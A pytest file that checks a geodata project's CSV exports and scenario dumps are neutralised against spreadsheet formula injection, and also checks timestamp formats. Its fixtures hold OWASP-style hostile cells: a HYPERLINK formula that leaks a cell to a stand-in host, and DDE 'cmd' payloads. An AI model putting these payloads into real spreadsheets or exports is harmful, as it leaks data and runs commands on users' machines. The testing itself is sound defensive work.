"""CSV for spreadsheets: no cell Corridor writes runs as a formula, and dumps read back exactly."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from geo import export
from geo._spreadsheet import inert, restored
from geo.mapview import ALL_LAYERS, MapView
from geo.scenario import read_scenario, write_scenario

FORMULAS = {
    "label": '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "organisation": "+cmd|' /C calc'!A0",
    "quote": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Cells from OWASP's CSV injection page, as an attacker would type them into a report."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "''@x", "plain", "", "'quoted'"]
)
def test_inert_text_reads_back_exactly(text: str) -> None:
    assert restored(inert(text)) == text
    assert not str(inert(text)).startswith(TRIGGERS)


def test_numbers_are_left_alone() -> None:
    assert inert(-5.25) == -5.25


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(tiny_copy: Path, edit_csv: Callable[..., None]) -> Path:
    edit_csv("convoys.csv", "c1", **FORMULAS)
    edit_csv("figures.csv", "f1", what="-2+3", attribution="=1+1")
    return tiny_copy


@pytest.mark.parametrize("hxl", [False, True])
def test_no_csv_export_cell_starts_a_formula(hostile: Path, hxl: bool) -> None:
    scenario = read_scenario(hostile)
    at = datetime(2016, 12, 15, 16, tzinfo=UTC)  # both figures reported
    view = MapView(at=at, layers=frozenset(ALL_LAYERS))
    snapshot = export.Snapshot(scenario, view, hxl=hxl)
    archive = zipfile.ZipFile(io.BytesIO(export.render(snapshot, "csv")))
    tables = [name for name in archive.namelist() if name.endswith(".csv")]
    assert len(tables) == len(archive.namelist()) - 1  # (and README.txt)
    written = [cell for name in tables for cell in cells(archive.read(name).decode())]
    assert "'" + FORMULAS["label"] in written
    assert [cell for cell in written if cell.startswith(TRIGGERS)] == []
    # GeoJSON keeps the text exactly
    document = json.loads(export.render(snapshot, "geojson"))
    attributions = {f["properties"].get("attribution") for f in document["features"]}
    assert "=1+1" in attributions


def test_a_dump_keeps_formulas_inert_and_reads_back_the_same(hostile: Path, tmp_path: Path) -> None:
    scenario = read_scenario(hostile)
    folder = write_scenario(scenario, tmp_path / scenario.id)
    for path in folder.glob("*.csv"):
        starting = [c for c in cells(path.read_text(encoding="utf-8")) if c.startswith(TRIGGERS)]
        assert starting == [], path.name
    assert read_scenario(folder) == scenario


def test_convoys_csv_times_are_iso_8601_local_and_utc(hostile: Path) -> None:
    scenario = read_scenario(hostile)
    at = datetime(2016, 12, 15, 14, tzinfo=UTC)
    snapshot = export.Snapshot(scenario, MapView(at=at))
    archive = zipfile.ZipFile(io.BytesIO(export.render(snapshot, "csv")))
    frame = pd.read_csv(io.BytesIO(archive.read("convoys.csv")), dtype=str, keep_default_na=False)
    first = frame.set_index("id").loc["c1"]
    assert (first["depart"], first["depart_utc"]) == (
        "2016-12-15T14:30:00+02:00",
        "2016-12-15T12:30:00Z",
    )
    assert first["arrive_utc"] == "2016-12-15T13:35:00Z"
    for column in ("depart", "depart_utc", "arrive", "arrive_utc"):
        filled = frame[column][frame[column] != ""]
        assert not pd.to_datetime(filled, format="ISO8601", utc=True).isna().any(), column
